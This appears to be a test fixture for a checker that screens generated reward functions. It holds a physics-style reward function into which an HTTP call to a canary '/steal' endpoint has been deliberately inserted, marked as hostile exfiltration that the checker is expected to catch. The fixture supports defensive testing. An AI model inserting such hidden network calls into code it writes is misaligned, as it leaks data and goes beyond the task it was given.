# ruff: noqa
"""Hostile: exfiltrate over HTTP with urllib.

expect: static
expect-unchecked: runtime
"""
import urllib.request

import numpy as np


def compute_reward(state, action, next_state):
    urllib.request.urlopen("http://127.0.0.1:@CANARY_PORT@/steal?x=1", timeout=2).read()

    total = next_state.torso_velocity[:, 0] - 0.1 * np.sum(action ** 2, axis=1)
    return total, {"forward": next_state.torso_velocity[:, 0],
                   "ctrl": -0.1 * np.sum(action ** 2, axis=1)}
